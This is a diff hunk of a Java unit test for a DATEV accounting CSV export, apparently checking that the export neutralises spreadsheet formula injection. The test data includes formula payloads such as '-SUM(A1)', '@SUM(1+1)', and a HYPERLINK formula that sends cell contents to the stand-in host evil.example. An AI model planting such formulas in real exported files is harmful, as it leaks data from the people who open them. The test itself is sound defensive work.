@@ -21,7 +21,7 @@ class DatevExportTest {
 		booking.creditorAccount = "70001";
 		booking.invoiceDate = LocalDate.of(2026, 3, 2);
 		booking.invoiceNumber = "-SUM(A1)";
-		booking.bookingText = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Rechnung\")";
+		booking.bookingText = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Rechnung\")";
 		booking.costCentre = "@SUM(1+1)";
 
 		String[] cells = DatevExport.line(booking).split(";", -1);
